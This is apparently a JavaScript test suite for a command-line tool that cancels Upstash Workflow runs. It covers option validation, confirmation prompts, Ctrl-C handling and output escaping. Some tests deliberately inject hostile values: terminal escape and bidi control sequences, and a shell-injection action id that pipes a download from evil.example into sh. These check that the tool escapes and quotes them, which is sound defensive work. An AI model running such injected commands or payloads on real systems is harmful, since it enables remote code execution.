    [['--ids-from', 'no-such-file.txt'], 2, /^Refused \(INVALID_OPTIONS\): --ids-from: cannot read no-such-file\.txt: there is no such file \(ENOENT\)\n/],
    [['--ids-from', '.'], 2, /^Refused \(INVALID_OPTIONS\): --ids-from: cannot read \.: it is a folder, not a file \(EISDIR\)\n/],
    [['watch', 'ba_x', '--label', 'x'], 2, /^Refused \(INVALID_OPTIONS\): --label: does not apply to watch/],
    [['watch', '../runs'], 2, /^Refused \(INVALID_OPTIONS\): ACTION_ID: must be an action id as the service gave it/],
    [['actions', '--state', 'done'], 2, /^Refused \(INVALID_OPTIONS\): --state: must be in-progress or finished \(upper or lower case, with - or _\)\n/],
    // An unknown id is not the service failing: it says so, and where to find the right one.
    [['watch', 'ba_missing'], 6, /^No bulk action ba_missing on this account \(HTTP_ERROR, HTTP 404\)\nThe service said: "Bulk action not found"\nBulk actions are kept 7 days; list them with: \S+ actions\n$/],
    [['--id', 'c1', '--async'], 2, /^Refused \(INVALID_OPTIONS\): --async: applies to filter and all cancels/],
  ];
  for (const [args, exit, message] of cases) {
    const { code, stderr } = await cli(args, { token });
    assert.equal(code, exit, `${args.join(' ')}: ${stderr}`);
    assert.match(stderr, message, args.join(' '));
  }
});

test('--ids-from - at a terminal says to paste the ids and end with Ctrl-D (it waited in silence); piped, it says nothing', async () => {
  const token = await account();
  const { code } = await new Promise((resolve) => {
    const child = spawn('script', ['-qefc', `${bin} --ids-from -`, 'typescript-paste'], {
      cwd: work,
      env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url, TERM: 'xterm' },
      stdio: ['pipe', 'ignore', 'ignore'],
    });
    child.stdin.write('c1, c2\n');
    setTimeout(() => child.stdin.end('\x04'), 500);
    child.on('close', (code) => resolve({ code }));
  });
  assert.equal(code, 0);
  const screen = readFileSync(join(work, 'typescript-paste'), 'utf8');
  assert.match(screen, /^Paste the run ids \(one per line, or separated by commas or spaces\), then press Ctrl-D on a line of its own:\r?\n/m);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2']);
  const piped = await cli(['--ids-from', '-'], { token: await account(), stdin: 'c3\n' });
  assert.equal(piped.code, 0, piped.stderr);
  assert.doesNotMatch(piped.stderr, /Paste/);
});

test('Ctrl-C at the [y/N] question says nothing was sent and exits 130 (it ended without a word)', async () => {
  const token = await account();
  const { code } = await new Promise((resolve) => {
    const child = spawn('script', ['-qefc', `${bin} --label nightly`, 'typescript-question'], {
      cwd: work,
      env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url, TERM: 'xterm' },
      stdio: ['pipe', 'ignore', 'ignore'],
    });
    // The terminal's Ctrl-C, once the question is up.
    setTimeout(() => child.stdin.write('\x03'), 1_000);
    child.on('close', (code) => resolve({ code }));
  });
  const screen = readFileSync(join(work, 'typescript-question'), 'utf8');
  assert.match(screen, /Go on\? \[y\/N\] .*\r?\nNot confirmed: stopped by Ctrl-C\. Nothing was sent\.\r?\n/);
  assert.equal(code, 130);
  assert.equal((await getLog(emulator.url, token)).length, 0);
});

test('Ctrl-C at "Watch it now?" after --async is a no: it ends at once, the action going on (it waited for a second Ctrl-C)', async () => {
  const token = await account();
  const { code } = await new Promise((resolve) => {
    const child = spawn('script', ['-qefc', `${bin} --label nightly --async --yes`, 'typescript-watch-question'], {
      cwd: work,
      env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url, TERM: 'xterm' },
      stdio: ['pipe', 'ignore', 'ignore'],
    });
    setTimeout(() => child.stdin.write('\x03'), 1_500);
    const hung = setTimeout(() => child.kill('SIGKILL'), 5_000);
    child.on('close', (code, signal) => {
      clearTimeout(hung);
      resolve({ code: signal ?? code });
    });
  });
  const screen = readFileSync(join(work, 'typescript-watch-question'), 'utf8');
  // Not the exit code: the shell `script` runs the command in takes the terminal's SIGINT too.
  assert.notEqual(code, 'SIGKILL', `still waiting 3.5 s after Ctrl-C:\n${screen}`);
  assert.match(screen, /Watch it now\? \[Y\/n\] (\^C)?\r?\n/);
  assert.doesNotMatch(screen, /runs processed/, 'not watched');
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c3'], 'the action went on');
});

test('in a real terminal the progress bar is drawn in place and cleared at the end', async () => {
  const ids = Array.from({ length: 2_500 }, (_, i) => `tty_${String(i).padStart(4, '0')}`);
  const token = await account(ids.map((id) => ({ id, workflowUrl: 'https://app.test/api/tty' })));
  writeFileSync(join(work, 'tty.txt'), ids.join('\n'));
  // `script` gives the command a pseudo-terminal and records what it wrote to it.
  const command = `${bin} --ids-from tty.txt --encoding body --concurrency 1`;
  const { code } = await new Promise((resolve) => {
    const child = spawn('script', ['-qefc', command, 'typescript'], {
      cwd: work,
      env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url, TERM: 'xterm' },
      stdio: ['pipe', 'ignore', 'ignore'],
    });
    child.stdin.end();
    child.on('close', (code) => resolve({ code }));
  });
  assert.equal(code, 0);
  const screen = readFileSync(join(work, 'typescript'), 'utf8');
  assert.match(screen, /\r\[#{8}\.{16}\] pass 1 · request 1\/3 · 1,000 runs cancelled\x1b\[K/);
  assert.match(screen, /\r\[#{24}\] pass 1 · request 3\/3 · 2,500 runs cancelled\x1b\[K\r\x1b\[KCancelled 2,500 runs/);
  assert.equal(leakIn(screen, token), undefined);
  assert.equal((await cancelledIds(emulator.url, token)).length, 2_500);
});

/** `text` as a regular expression that matches it literally. */
const literal = (text) => text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');

/** Characters a terminal acts on rather than shows: C0 (but the newline), DEL, C1, bidi controls. */
const TERMINAL_CONTROLS = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

test('service text is shown escaped: ESC, OSC, C1 and bidi controls in actions, watch and errors never reach the terminal raw', async () => {
  const token = await account();
  const hostile = '\x1b[2J\x1b]0;pwned\x07\u009b31m\u202eevil';
  const fake = '\n0 run(s) matched, nothing cancelled';
  const action = {
    actionId: `ba_${hostile}`, kind: 'cancel', state: 'FINISHED', total: 1, processed: 1,
    createdAt: Date.now(), completedAt: Date.now(), filter: { label: [`${hostile}${fake}`], [`x${hostile}`]: ['v'] },
  };
  await seedActions(emulator.url, token, [action]);
  for (const args of [['actions'], ['actions', '--json']]) {
    const { code, stdout, stderr } = await cli(args, { token });
    assert.equal(code, 0, stderr);
    assert.doesNotMatch(stdout + stderr, TERMINAL_CONTROLS, args.join(' '));
    assert.ok(!(stdout + stderr).split('\n').includes('0 run(s) matched, nothing cancelled'), 'no fake line');
    assert.deepEqual(JSON.parse(args.includes('--json') ? stdout : '{"bulkActions":[]}').bulkActions.map((a) => a.actionId),
      args.includes('--json') ? [action.actionId] : [], 'JSON keeps the value, escaped only as JSON');
  }
  assert.match((await cli(['actions'], { token })).stdout, /ba_\\x1b\[2J\\x1b\]0;pwned\\x07\\u009b31m\\u202eevil/);
  // watch: the answer's filter; and an answer about another action than the one asked for,
  // which the library refuses, its text shown escaped in the refusal.
  await injectFaults(emulator.url, token, [{ status: 200, body: { ...action, actionId: 'ba_1' } }]);
  const watched = await cli(['watch', 'ba_1'], { token });
  assert.equal(watched.code, 0, watched.stderr);
  assert.doesNotMatch(watched.stdout + watched.stderr, TERMINAL_CONTROLS);
  await injectFaults(emulator.url, token, [{ status: 200, body: action }]);
  const other = await cli(['watch', 'ba_1'], { token });
  assert.match(other.stderr, /^The service's answer could not be read \(INVALID_RESPONSE, HTTP 200\): /);
  assert.doesNotMatch(other.stdout + other.stderr, TERMINAL_CONTROLS);
  // An error's text from the service.
  await injectFaults(emulator.url, token, [{ status: 404, body: { error: `gone${hostile}` } }]);
  const missing = await cli(['watch', 'ba_1'], { token });
  assert.equal(missing.code, 6, missing.stderr);
  assert.doesNotMatch(missing.stdout + missing.stderr, TERMINAL_CONTROLS);
  assert.match(missing.stderr, /gone.*\\u202eevil/);
});

test('an answer the library refuses is told with why: another action, impossible progress', async () => {
  const token = await account();
  const action = { actionId: 'ba_2', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: 1, completedAt: 2, filter: {} };
  for (const [body, why] of [[action, /another bulk action than the one asked for/], [{ ...action, actionId: 'ba_1', processed: 5, total: 3 }, /processed/]]) {
    await injectFaults(emulator.url, token, [{ status: 200, body }]);
    const { code, stderr } = await cli(['watch', 'ba_1'], { token });
    assert.equal(code, 6, stderr);
    assert.match(stderr, /^The service's answer could not be read \(INVALID_RESPONSE, HTTP 200\): /);
    assert.match(stderr.split('\n')[0], why);
  }
});

test('a refusal of watch or actions names the flag or argument, not the option behind it', async () => {
  const token = await account();
  for (const [args, said] of [
    [['watch', 'ba_1', '--poll', '5'], /^Refused \(INVALID_OPTIONS\): --poll: must be a whole number from 100 to 600000\n/],
    [['actions', '--cursor', 'a\x1bb'], /^Refused \(INVALID_OPTIONS\): --cursor: must be the cursor of the previous page/],
    [['watch', 'a/b'], /^Refused \(INVALID_OPTIONS\): ACTION_ID: must be an action id as the service gave it/],
  ]) {
    const { code, stderr } = await cli(args, { token });
    assert.equal(code, 2, stderr);
    assert.match(stderr, said);
  }
  assert.equal((await getLog(emulator.url, token)).length, 0, 'nothing was sent');
});

test('the follow-up command of --async quotes the service-made action id for the shell', async () => {
  const token = await account();
  const id = 'x;curl${IFS}evil.example|sh;';
  await injectFaults(emulator.url, token, [{ status: 200, body: { actionId: id } }]);
  const started = await cli(['--label', 'nightly', '--async', '--yes'], { token });
  assert.equal(started.code, 0, started.stderr);
  const [, command] = /Follow it with: (.*)\n/.exec(started.stdout);
  // What a shell makes of the printed line: the program, `watch` and the id as one word.
  const words = execFileSync('sh', ['-c', `set -- ${command}; printf '%s\\n' "$@"`], { encoding: 'utf8' }).trimEnd().split('\n');
  assert.deepEqual(words.slice(-2), ['watch', id]);
});

test('a follow-up command runs as printed when the service-made id or cursor starts with "-" (which reads as a flag)', async () => {
  const token = await account();
  const env = { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url };
  // watch: the action id the start answered.
  await injectFaults(emulator.url, token, [{ status: 200, body: { actionId: '-ba_dash' } }]);
  const started = await cli(['--label', 'nightly', '--async', '--yes'], { token });
  const [, watch] = /Follow it with: (.*)\n/.exec(started.stdout);
  const action = { actionId: '-ba_dash', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: 1, completedAt: 2, filter: {} };
  await injectFaults(emulator.url, token, [{ status: 200, body: action }]);
  const watched = await promisify(execFile)('sh', ['-c', watch], { cwd: work, env });
  assert.match(watched.stdout, /^Bulk action -ba_dash finished/);
  // actions: the cursor it stopped at.
  await injectFaults(emulator.url, token, Array.from({ length: 1_000 }, (_, i) => ({ status: 200, body: { bulkActions: [], cursor: `-c${i + 1}` } })));
  const stopped = await cli(['actions'], { token });
  const [, more] = /\nTo list on from there:\n {2}(.*)\n$/.exec(stopped.stderr) ?? [];
  await injectFaults(emulator.url, token, [{ status: 200, body: { bulkActions: [], cursor: null } }]);
  await promisify(execFile)('sh', ['-c', more ?? stopped.stderr], { cwd: work, env });
  assert.equal((await getLog(emulator.url, token)).at(-1).query, '?cursor=-c1000');
});

test('actions and watch show times beyond what a Date can hold (up to 2^53-1 ms, as the library accepts) instead of crashing', async () => {
  const token = await account();
  const far = Number.MAX_SAFE_INTEGER;
  await seedActions(emulator.url, token, [{
    actionId: 'ba_far', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: far, completedAt: far, filter: { label: ['x'] },
  }]);
  const table = await cli(['actions'], { token });
  assert.equal(table.code, 0, table.stderr);
  assert.match(table.stdout, /ba_far +FINISHED +1\/1 +9007199254740991 ms after 1970 \(past the last date a clock can show\) +9007199254740991 ms after 1970 .* +--label x\n/);
  const watched = await cli(['watch', 'ba_far'], { token });
  assert.equal(watched.code, 0, watched.stderr);
  assert.match(watched.stdout, /created 9007199254740991 ms after 1970 \(past the last date a clock can show\)/);
});

test('the question and the result name the account: the base URL (and region) and a fingerprint of the token, never its characters', async () => {
  const token = await account();
  const fingerprint = await tokenFingerprint(token);
  assert.match(fingerprint, /^[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}$/);
  // Said as a fingerprint in so many words: "token 3f49-bb47-b8c9" read as a piece of the token.
  const named = literal(`Account: the token from QSTASH_TOKEN (fingerprint ${fingerprint}) at ${emulator.url}`);
  const asked = await cli(['--label', 'nightly'], { token, stdin: 'n\n' });
  assert.match(asked.stderr, new RegExp(`^This cancels every run matching label nightly, .*\\n${named}\\nGo on\\? \\[y/N\\] `));
  const all = await cli(['--all'], { token, stdin: 'n\n' });
  assert.match(all.stderr, new RegExp(`^This cancels EVERY workflow run of the account\\.\\n${named}\\nType "cancel every run"`));
  const done = await cli(['--id', 'c1'], { token });
  assert.match(done.stdout, new RegExp(`^Cancelled 1 run.*\\n${named}\\n`));
  const json = JSON.parse((await cli(['--id', 'c2', '--json'], { token })).stdout);
  assert.deepEqual(json.account, { baseUrl: emulator.url, tokenFingerprint: fingerprint, tokenFrom: 'QSTASH_TOKEN' });
  // A region's token and URL: the region is named, and a dry run says where a real run would go.
  const region = await cli(['--label', 'nightly', '--dry-run'], {
    env: { QSTASH_TOKEN: '', QSTASH_URL: '', QSTASH_REGION: 'US_EAST_1', US_EAST_1_QSTASH_TOKEN: token },
  });
  assert.equal(region.code, 0, region.stderr);
  assert.match(region.stdout, new RegExp(`\\nAccount: the token from US_EAST_1_QSTASH_TOKEN \\(fingerprint ${fingerprint}\\) at https://qstash-us-east-1\\.upstash\\.io \\(region US_EAST_1\\)\\n`));
  assert.ok(!(region.stdout + done.stdout + asked.stderr).includes(token.slice(-6)), 'no characters of the token');
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2']);
});

test('-h, -y, --version and -V work; run bare it shows the usage; a dry run needs no token', async () => {
  const token = await account();
  const help = await cli(['-h'], { token });
  assert.deepEqual([help.code, help.stderr], [0, '']);
  assert.match(help.stdout, /^qstash-cancel: cancel Upstash Workflow runs/);
  assert.match(help.stdout, /-h, --help +show this help/);
  // What Ctrl-C leaves, for each kind of cancel: a filter cancel has no ids to save.
  assert.match(help.stdout, /Ctrl-C stops at once and says how to finish the job: an id list's ids not\nconfirmed cancelled are written to a file, with the command that sends them; a filter\nor --all cancel continues when run again as it was\./);
  const { version } = JSON.parse(readFileSync(join(app, 'node_modules/qstash-cancel/package.json'), 'utf8'));
  for (const flag of ['--version', '-V']) assert.deepEqual(await cli([flag], { token }), { code: 0, stdout: `qstash-cancel ${version}\n`, stderr: '' });
  const bare = await cli([], { env: { QSTASH_TOKEN: '' } });
  assert.equal(bare.code, 0, bare.stderr);
  assert.match(bare.stdout, /^qstash-cancel: cancel Upstash Workflow runs[\s\S]*Usage:/);
  const yes = await cli(['--label', 'nightly', '-y'], { token });
  assert.equal(yes.code, 0, yes.stderr);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c3']);
  const sent = (await getLog(emulator.url, token)).length;
  const dry = await cli(['--label', 'adhoc', '--dry-run'], { env: { QSTASH_TOKEN: '' } });
  assert.equal(dry.code, 0, dry.stderr);
  assert.match(dry.stdout, /^Dry run: nothing was sent\. The request:\n {2}DELETE http:\/\/127\.0\.0\.1:\d+\/v2\/workflows\/runs\?label=adhoc\n/);
  assert.match(dry.stdout, /\nA real run would use:\nAccount: no token yet \(set QSTASH_TOKEN\) at http:\/\/127\.0\.0\.1:\d+\n$/);
  assert.equal((await getLog(emulator.url, token)).length, sent, 'the dry run sent nothing');
});

test('a refused token (401, 403) is not a job to resume: no failed-ids file, no "run it again"; it says to fix the token and where it came from', async () => {
  const wrong = 'not-an-account-token';
  const fingerprint = await tokenFingerprint(wrong);
  const files = () => readdirSync(work).filter((name) => name.startsWith('qstash-cancel-failed-')).length;
  const before = files();
  for (const args of [['--id', 'c1', '--id', 'c2'], ['--label', 'nightly', '--yes']]) {
    const { code, stderr } = await cli(args, { token: wrong });
    assert.equal(code, 4, stderr);
    assert.doesNotMatch(stderr, /To finish the job|again continues|--ids-from/, args.join(' '));
    assert.match(stderr, new RegExp(`Fix the token in QSTASH_TOKEN \\(fingerprint ${fingerprint}\\): the service at http://127\\.0\\.0\\.1:\\d+ did not accept it \\(HTTP 401\\)`), args.join(' '));
  }
  const token = await account();
  await injectFaults(emulator.url, token, [{ status: 403, body: { error: 'forbidden' } }]);
  const forbidden = await cli(['--id', 'c1'], { token });
  assert.equal(forbidden.code, 4, forbidden.stderr);
  assert.match(forbidden.stderr, /Fix the token in QSTASH_TOKEN \(fingerprint \S+\): the service at \S+ refused this request with it \(HTTP 403: the token lacks the rights\)/);
  assert.doesNotMatch(forbidden.stderr, /To finish the job/);
  assert.equal(files(), before, 'no file written');
});

test('headlines are plain words with the code after them, flags not option names, and counts in proper singular and plural', async () => {
  const token = await account();
  const cases = [
    [['--from', '1700000000', '--yes'], 2, /^Refused \(INVALID_OPTIONS\): --from: must be Unix milliseconds/],
    [['--id', 'c1', '--label', 'x'], 2, /^Refused \(INVALID_OPTIONS\): --label: cannot be combined with --id\/--ids-from/],
    [['--label', 'nightly', '--yes', '--max-passes', '1'], 8, /^Not finished \(UNFINISHED\): the cancel stopped at --max-passes \(1\)/m],
  ];
  for (const [args, exit, headline] of cases) {
    const { code, stdout, stderr } = await cli(args, { token });
    assert.equal(code, exit, stderr);
    assert.match(stderr, headline, args.join(' '));
    assert.doesNotMatch(stdout + stderr, /workflowRunIds|maxPasses|\((s|es|ies)\)/, args.join(' '));
  }
  const wrong = await cli(['--id', 'c1'], { token: 'not-an-account-token' });
  assert.match(wrong.stderr, /^Token refused \(UNAUTHORIZED, HTTP 401\)\nThe service said: "[^"\n]+"\n/);
  assert.doesNotMatch(wrong.stderr, /the token was refused \(HTTP 401\)/);
  const one = await cli(['--id', 'c2'], { token });
  assert.match(one.stdout, /^Cancelled 1 run \(1 request, 1 pass, 0 retries\)\.\n/);
  // A 500 is an answer: the ids it carried are "not confirmed", not "no answer came".
  const fresh = await account();
  await injectFaults(emulator.url, fresh, [{ act: true, status: 500, body: 'oops' }]);
  const failed = await cli(['--id', 'c1', '--id', 'c2', '--retries', '0', '--failed-ids-to', 'five-hundred.txt'], { token: fresh });
  assert.equal(failed.code, 6, failed.stderr);
  assert.match(failed.stderr, /^The service failed \(HTTP_ERROR, HTTP 500\)/);
  assert.match(failed.stderr, /\n0 runs confirmed cancelled before this\.\n2 ids not confirmed: sent without a confirming answer \(the service may have cancelled them\)\.\n/);
  assert.doesNotMatch(failed.stderr, /no answer came|\((s|es|ies)\)/);
});

test('an id cancel that falls short says how many were asked, how many the service cancelled, and what the rest can be', async () => {
  const token = await account();
  const unknown = await cli(['--id', 'zz_1', '--id', 'zz_2'], { token });
  assert.equal(unknown.code, 0, unknown.stderr);
  assert.match(unknown.stdout, /^Cancelled 0 of 2 runs asked \(1 request, 1 pass, 0 retries\)\.\nThe other 2 were not active: already finished or cancelled, or unknown to this account \(the service does not say which\)\.\n/);
  const some = await cli(['--id', 'c1', '--id', 'c2', '--id', 'c1', '--id', 'zz_3', '--json'], { token });
  const json = JSON.parse(some.stdout);
  assert.deepEqual([json.cancelled, json.asked], [2, 3]);
  assert.match(json.message, /^Cancelled 2 of 3 runs asked .*\nThe other one was not active/);
  assert.deepEqual(await cancelledIds(emulator.url, token), ['c1', 'c2']);
});

test('started through npx, the printed follow-up command runs through npx too, from a shell without the package on PATH', async () => {
  const token = await account();
  const env = { PATH: process.env.PATH, HOME: process.env.HOME, QSTASH_TOKEN: token, QSTASH_URL: emulator.url };
  // Not execFileSync: the emulator answers from this process's event loop.
  const run = promisify(execFile);
  const { stdout: started } = await run('npx', ['--no-install', 'qstash-cancel', '--label', 'nightly', '--async', '--yes'], { cwd: app, env });
  const [, command] = /Follow it with: (.*)\n/.exec(started);
  assert.match(command, /^npx qstash-cancel watch ba_\S+$/);
  const { stdout: watched } = await run('sh', ['-c', command], { cwd: app, env });
  assert.match(watched, /^Bulk action ba_\S+ finished: 2 of 2 runs processed/);
});

test('actions lists newest first, takes --state in any case, and says why one filter cancel shows as several actions', async () => {
  const token = await account();
  const at = Date.now() - 60_000;
  const action = (id, createdAt, state) => ({
    actionId: id, kind: 'cancel', state, total: 1, processed: state === 'FINISHED' ? 1 : 0, createdAt,
    completedAt: state === 'FINISHED' ? createdAt + 1 : null, filter: { label: ['x'] },
  });
  await seedActions(emulator.url, token, [action('ba_old', at, 'FINISHED'), action('ba_new', at + 2_000, 'IN_PROGRESS'), action('ba_mid', at + 1_000, 'FINISHED')]);
  const table = await cli(['actions'], { token });
  assert.equal(table.code, 0, table.stderr);
  assert.deepEqual(table.stdout.split('\n').slice(1, 4).map((line) => line.split(' ')[0]), ['ba_new', 'ba_mid', 'ba_old']);
  assert.match(table.stdout, /\nNewest first\. A filter or --all cancel repeats in passes until one cancels nothing, and each pass is one bulk action: one command can show as several\.\n$/);
  for (const state of ['IN_PROGRESS', 'in_progress', 'In-Progress']) {
    const { code, stdout, stderr } = await cli(['actions', '--state', state, '--json'], { token });
    assert.equal(code, 0, stderr);
    assert.deepEqual(JSON.parse(stdout).bulkActions.map((a) => a.actionId), ['ba_new'], state);
  }
  assert.equal(JSON.parse((await cli(['actions', '--state', 'FINISHED', '--json'], { token })).stdout).bulkActions.length, 2);
});

test('the FILTER column of actions is written as the flags that match the same runs, ready to paste; a filter with no flag keeps its name', async () => {
  const token = await account();
  await seedActions(emulator.url, token, [{
    actionId: 'ba_flags', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: Date.now() - 1_000, completedAt: Date.now(),
    filter: { workflowUrl: ['https://app.test/a b'], fromDate: ['1700000000000'], label: ['x', 'y'], somethingNew: ['z'] },
  }]);
  const { code, stdout, stderr } = await cli(['actions'], { token });
  assert.equal(code, 0, stderr);
  assert.match(stdout, /\bba_flags .* --workflow-url 'https:\/\/app\.test\/a b' --from 1700000000000 --label x --label y somethingNew=z\n/);
  assert.doesNotMatch(stdout, /workflowUrl=|fromDate=|label=/);
});

test('the phrase for --all stays case-sensitive, and a refusal says why', async () => {
  const token = await account();
  const cases = [
    ['Cancel Every Run\n', /\nNot confirmed: the phrase is case-sensitive; type "cancel every run" exactly, in lower case\. Nothing was sent\.\n$/],
    ['yes\n', /\nNot confirmed: "yes" is not the phrase "cancel every run"\. Nothing was sent\.\n$/],
    ['\x1b[2Jcancel\n', /\nNot confirmed: "\\x1b\[2Jcancel" is not the phrase "cancel every run"\. Nothing was sent\.\n$/],
    ['', /\nNot confirmed: no phrase was typed\. Nothing was sent\.\n$/],
  ];
  for (const [stdin, why] of cases) {
    const { code, stderr } = await cli(['--all'], { token, stdin });
    assert.equal(code, 3, stderr);
    assert.match(stderr, why, JSON.stringify(stdin));
  }
  assert.equal((await getLog(emulator.url, token)).length, 0);
});

test('--ids-from reads a JSON array and CSV quoting, refuses a file it cannot read right with the line, and names --ids-from', async () => {
  const read = async (name, bytes, stdin) => {
    const token = await account();
    if (bytes !== undefined) writeFileSync(join(work, name), bytes);
    const result = await cli(['--ids-from', stdin === undefined ? name : '-'], { token, stdin });
    return { ...result, cancelled: await cancelledIds(emulator.url, token), sent: (await getLog(emulator.url, token)).length };
  };
  for (const [name, text, want] of [
    ['ids.json', '[\n  "c1",\n  "c2"\n]\n', ['c1', 'c2']],
    ['ids.csv', '"c1","c3"\n"c2"\n', ['c1', 'c2', 'c3']],
    ['bom.txt', '\ufeffc2\nc3\n', ['c2', 'c3']],
  ]) {
    const { code, stderr, cancelled } = await read(name, text);
    assert.equal(code, 0, `${name}: ${stderr}`);
    assert.deepEqual(cancelled, want, name);
  }
  const piped = await read('-', undefined, '["c3"]');
  assert.deepEqual([piped.code, piped.cancelled], [0, ['c3']]);
  const refusals = [
    ['latin1.txt', Buffer.from('c1\nr\xe9sum\xe9\n', 'latin1'), /^Refused \(INVALID_OPTIONS\): --ids-from: latin1\.txt line 2 is not UTF-8 \(a Latin-1 or Windows-1252 file\?\): save it as UTF-8\n/],
    ['utf16.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('c1\nc2\n', 'utf16le')]), /^Refused \(INVALID_OPTIONS\): --ids-from: utf16\.txt is UTF-16 \(or not text\): save it as UTF-8\n/],
    ['open.csv', 'c1\n"c2,c3\n', /^Refused \(INVALID_OPTIONS\): --ids-from: open\.csv line 2: a quote is not closed\n/],
    ['python.txt', "['c1', 'c2']\n", /^Refused \(INVALID_OPTIONS\): --ids-from: python\.txt starts with \[ but is not a JSON array of strings/],
    ['numbers.json', '["c1", 2]', /^Refused \(INVALID_OPTIONS\): --ids-from: numbers\.json item 2 of the JSON array is not a string\n/],
    ['space.csv', 'c1\n"c 2"\n', /^Refused \(INVALID_OPTIONS\): --ids-from: space\.csv line 2: must /],
    // Pasted from chat or a ticket: sent as they are, the service would count them "not active"
    // and the command would call the job done while the runs go on.
    ['bullets.txt', '- c1\n- c2\n', /^Refused \(INVALID_OPTIONS\): --ids-from: bullets\.txt line 1: "-" is not a run id \(a list bullet\?\): paste the ids alone\n/],
    ['chat.txt', 'c1\n`c2`\n', /^Refused \(INVALID_OPTIONS\): --ids-from: chat\.txt line 2: a backtick in "`c2`" \(pasted from chat\?\): paste the ids alone\n/],
    // The library refuses bidi controls in ids, naming no item: the file is named, not --id.
    ['bidi.txt', 'ab\u202ecd\n', /^Refused \(INVALID_OPTIONS\): --ids-from: bidi\.txt: must not contain invisible or bidirectional formatting characters/],
  ];
  for (const [name, bytes, why] of refusals) {
    const { code, stderr, sent } = await read(name, bytes);
    assert.equal(code, 2, `${name}: ${stderr}`);
    assert.match(stderr, why, name);
    assert.equal(sent, 0, name);
  }
});

test('actions that stop on an endless cursor list what they read and print a --cursor command that lists on from there', async () => {
  const token = await account();
  const page = (i) => ({ status: 200, body: { bulkActions: i === 0 ? [{ actionId: 'ba_first', kind: 'cancel', state: 'FINISHED', total: 1, processed: 1, createdAt: Date.now(), completedAt: Date.now(), filter: {} }] : [], cursor: `c${i + 1}` } });
  await injectFaults(emulator.url, token, Array.from({ length: 1_000 }, (_, i) => page(i)));
  const stopped = await cli(['actions', '--state', 'finished'], { token });
  assert.equal(stopped.code, 8, stopped.stderr);
  assert.match(stopped.stdout, /\nba_first +FINISHED/);
  const [, command] = /\nTo list on from there:\n {2}(.*)\n$/.exec(stopped.stderr) ?? [];
  assert.match(command ?? stopped.stderr, / actions --state finished --cursor c1000$/);
  await seedActions(emulator.url, token, Array.from({ length: 1_001 }, (_, i) => ({ actionId: `ba_${i}`, kind: 'cancel', state: 'FINISHED', total: 0, processed: 0, createdAt: Date.now(), completedAt: Date.now(), filter: {} })));
  const { stdout } = await promisify(execFile)('sh', ['-c', command], { cwd: work, env: { PATH: process.env.PATH, QSTASH_TOKEN: token, QSTASH_URL: emulator.url } });
  assert.match(stdout, /^ACTION ID .*\nba_1000 /, 'listed on from the 1,000th action');
  assert.equal((await getLog(emulator.url, token)).at(-1).query, '?cursor=c1000&state=FINISHED');
  const refused = await cli(['--label', 'x', '--cursor', 'c1', '--yes'], { token });
  assert.equal(refused.code, 2);
  assert.match(refused.stderr, /^Refused \(INVALID_OPTIONS\): --cursor: applies to actions only/);
});

test('Ctrl-C stops watch, not the bulk action, and says so with what it last saw', async () => {
  const token = await account(bulk('w', 200).map((id) => ({ id, workflowUrl: 'https://app.test/api/w', label: 'w' })));
  await setBulkSpeed(emulator.url, token, { perTick: 1, tickMs: 200 });
  const started = await cli(['--label', 'w', '--async', '--yes', '--json'], { token });
  const { actionId } = JSON.parse(started.stdout);
  let sent = false;
  const { code, stderr } = await spawnCli(['watch', actionId, '--poll', '100'], token, (child, text) => {
    if (!sent && /processed · in progress/.test(text)) {
      sent = true;
      child.kill('SIGINT');
    }
  });
  assert.equal(code, 130, stderr);
  assert.match(stderr, new RegExp(`\\nStopped watching by Ctrl-C \\(ABORTED, SIGINT\\): bulk action ${actionId} goes on in the service \\(last seen: \\d+ of 200 runs processed\\)\\.\\n$`));
});

test('a background start whose answer is lost is not offered to run again: it says an action may have started and where to look', async () => {
  const token = await account();
  // The service starts the action, then its answer comes too late for --timeout.
  await injectFaults(emulator.url, token, [{ act: true, delayMs: 3_000 }]);
  const lost = await cli(['--label', 'nightly', '--async', '--yes', '--timeout', '500'], { token });
  assert.equal(lost.code, 7, lost.stderr);
  assert.doesNotMatch(lost.stderr, /same command again|finish the job/);
  assert.match(lost.stderr, /A bulk action may have started\. Look before you start another: \S+ actions --state in_progress\n/);
  assert.equal((await getLog(emulator.url, token)).length, 1, 'the start was sent once');
  const listed = JSON.parse((await cli(['actions', '--json'], { token })).stdout);
  assert.equal(listed.bulkActions.length, 1, 'the one action the lost start made is there to find');
});
